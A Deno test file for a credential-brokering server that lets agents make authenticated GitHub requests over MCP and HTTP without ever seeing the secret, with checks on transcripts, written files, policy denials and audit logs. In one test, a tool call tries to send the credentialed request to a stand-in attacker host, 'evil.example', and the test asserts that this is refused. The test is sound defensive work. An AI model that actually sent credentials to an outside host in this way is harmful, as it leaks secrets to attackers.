/** The founding scenario: an agent uses a credential that it never holds. */
import assert from "node:assert/strict";
import { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { StreamableHTTPClientTransport } from "@modelcontextprotocol/sdk/client/streamableHttp.js";
import { findForm } from "./support/forms.ts";
import { githubBundle, githubFiles } from "./support/github_bundle.ts";
import { McpClient } from "./support/mcp_client.ts";
import { makeCanary } from "./support/project.ts";
import { startTeamServer } from "./support/team_server.ts";
import { TestIssuer } from "./support/test_issuer.ts";
import { startTlsUpstream } from "./support/tls_upstream.ts";

const ISSUES = "https://api.github.com/repos/myorg/myrepo/issues";

/** Everything that a directory holds, names included. */
async function contents(directory: string): Promise<string> {
  let all = "";
  for await (const { name, isFile, isDirectory } of Deno.readDir(directory)) {
    const path = `${directory}/${name}`;
    all += `${name}\n`;
    // The value is at rest in the backend's own file, and Deno's cache is not ours.
    if (isDirectory && name !== "deno") all += await contents(path);
    else if (isFile && name !== "secrets.env") all += await Deno.readTextFile(path).catch(() => "");
  }
  return all;
}

Deno.test("an agent fetches over MCP on standard streams and never sees the value [S-5.6] [S-5.1]", async () => {
  const canary = makeCanary();
  const issuer = await TestIssuer.create();
  // The host echoes all it is sent, the credential included.
  await using upstream = await startTlsUpstream({ host: "api.github.com" });
  await using server = await startTeamServer({
    bundle: githubBundle(issuer, upstream),
    files: githubFiles(canary, upstream),
    args: ["--mcp"],
  });
  const { project } = server;
  const jwt = await issuer.sign();
  let transcript: string;
  {
    await using agent = await McpClient.connect(server);
    assert.equal((await agent.client.listTools()).tools.length, 2);
    const args = { jwt, resource: "github/pat", resolver: "gh", url: ISSUES, method: "GET" };
    const answer = await agent.call("fetch", args);
    assert.equal(answer.isError, false, answer.text);
    assert.match(answer.text, /"status":200/);
    assert.match(answer.text, /repos\/myorg\/myrepo\/issues/);
    const token = await agent.call("resolve", { jwt, resource: "github/pat" });
    assert.match(token.text, /KZ_TOK_1/);
    // Whatever the mode: over MCP nobody gets a value.
    const direct = await agent.call("resolve", { jwt, resource: "github/direct" });
    assert.match(direct.text, /KZ_TOK_1/);
    const elsewhere = await agent.call("fetch", { ...args, url: "https://evil.example/" });
    assert.equal(elsewhere.isError, true);
    const stranger = await agent.call("fetch", { ...args, jwt: await issuer.sign({ service_name: "other" }) });
    assert.equal(stranger.isError, true);
    transcript = agent.transcript + server.stderr;
  }
  assert.deepEqual(upstream.seen.map(({ headers }) => headers["authorization"]), [`Bearer ${canary}`]);
  assert.equal(findForm(transcript, canary), undefined, "the value is in the transcript");
  assert.equal(transcript.includes(jwt), false, "the JWT is in the transcript");
  const written = await contents(project.dir) + await contents(project.home);
  assert.equal(findForm(written, canary), undefined, "the value was written down");
  assert.equal(written.includes(jwt.split(".")[2]!), false, "the JWT was written down");
  const verified = await project.kz(["audit", "verify", "audit.jsonl"]);
  assert.equal(verified.status, 0, verified.stderr);
});

Deno.test("an agent fetches over streamable HTTP and never sees the value [S-5.6] [S-5.2] [S-5.3]", async () => {
  const canary = makeCanary();
  const issuer = await TestIssuer.create();
  await using upstream = await startTlsUpstream({ host: "api.github.com" });
  await using server = await startTeamServer({
    bundle: githubBundle(issuer, upstream),
    files: githubFiles(canary, upstream),
    args: ["--listen", "127.0.0.1:0", "--mcp"],
  });
  const client = new Client({ name: "test", version: "1.0.0" });
  await client.connect(new StreamableHTTPClientTransport(new URL(`${await server.url()}/mcp`)));
  const jwt = await issuer.sign();
  const results: unknown[] = [];
  for (const resource of ["github/pat", "github/direct"]) {
    results.push(await client.callTool({ name: "resolve", arguments: { jwt, resource } }));
  }
  results.push(await client.callTool({ name: "fetch", arguments: { jwt, resource: "github/pat", url: ISSUES } }));
  await client.close();
  const text = JSON.stringify(results);
  assert.equal(text.match(/"token":"KZ_TOK_1/g)?.length, 2, text);
  assert.match(text, /"status":200/);
  assert.equal(findForm(text + server.stderr, canary), undefined, "the value is in the transcript");
  assert.deepEqual(upstream.seen.map(({ headers }) => headers["authorization"]), [`Bearer ${canary}`]);
});

Deno.test("direct mode gives the value over HTTP, to whom policy allows it [S-4.1]", async () => {
  const canary = makeCanary();
  const issuer = await TestIssuer.create();
  await using upstream = await startTlsUpstream({ host: "api.github.com" });
  await using server = await startTeamServer({
    bundle: githubBundle(issuer, upstream),
    files: githubFiles(canary, upstream),
    args: ["--listen", "127.0.0.1:0"],
  });
  const url = `${await server.url()}/v1/resolve`;
  const resolve = async (jwt: string, refs: readonly string[]) => {
    const response = await fetch(url, {
      method: "POST",
      headers: { authorization: `Bearer ${jwt}`, "content-type": "application/json" },
      body: JSON.stringify({ refs }),
    });
    return { status: response.status, body: await response.json() };
  };
  const { status, body } = await resolve(await issuer.sign(), ["github/direct", "github/pat", "aws/key"]);
  assert.equal(status, 200);
  const results: Record<string, Record<string, unknown>> = body.results;
  assert.equal(results["github/direct"]?.["value"], canary);
  assert.equal(results["github/direct"]?.["mode"], "direct");
  assert.match(String(results["github/pat"]?.["token"]), /^KZ_TOK_1/);
  assert.equal(results["github/pat"]?.["value"], undefined);
  assert.equal(results["aws/key"]?.["allowed"], false);
  const stranger = await resolve(await issuer.sign({ service_name: "other" }), ["github/direct"]);
  assert.equal(JSON.stringify(stranger.body).includes(canary), false);
  const audit = await server.audit();
  const decisions = audit.filter(({ event }) => event === "resolve");
  assert.deepEqual(decisions.map(({ outcome }) => outcome).sort(), ["allowed", "allowed", "denied", "denied"]);
  assert.equal(findForm(JSON.stringify(audit) + server.stderr, canary), undefined);
});

Deno.test("TM-32 a rule that meets an error denies, and the audit says so where the caller does not learn it", async () => {
  const issuer = await TestIssuer.create();
  await using upstream = await startTlsUpstream({ host: "api.github.com" });
  const broken = `  - { name: broken, effect: deny, rule: 'claims.absent == "x"' }\n`;
  await using server = await startTeamServer({
    bundle: githubBundle(issuer, upstream).replace("policies:\n", `policies:\n${broken}`),
    files: githubFiles(makeCanary(), upstream),
    args: ["--listen", "127.0.0.1:0"],
  });
  const response = await fetch(`${await server.url()}/v1/fetch`, {
    method: "POST",
    headers: { authorization: `Bearer ${await issuer.sign()}`, "content-type": "application/json" },
    body: JSON.stringify({ resource: "github/pat", url: ISSUES }),
  });
  const text = await response.text();
  assert.equal(response.status, 403, text);
  assert.equal(text.includes("error"), false, text);
  assert.equal(upstream.seen.length, 0);
  const { policy, outcome, detail } = (await server.audit()).at(-1) ?? {};
  assert.deepEqual({ policy, outcome, detail }, {
    policy: "broken",
    outcome: "denied",
    detail: "the rule met an error",
  });
});
